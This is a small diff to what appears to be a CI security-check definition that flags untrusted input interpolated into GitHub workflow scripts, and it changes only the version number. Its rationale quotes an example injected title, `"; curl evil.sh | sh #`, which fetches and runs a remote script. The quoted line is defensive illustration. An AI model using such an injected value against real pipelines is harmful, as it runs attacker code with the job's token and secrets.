@@ -12,7 +12,7 @@ export const workflowInputSafe = defineCheck({
   item: 'build-pipeline',
   title: 'No untrusted input runs as code in workflows',
   severity: 'critical',
-  version: 1,
+  version: 2,
   rationale:
     'GitHub writes an expression into the script before the shell reads it. A title such as `"; curl evil.sh | sh #` is then a command, run with the token and the secrets of the job. Whoever can open an issue or a pull request can write one.',
   remediation:
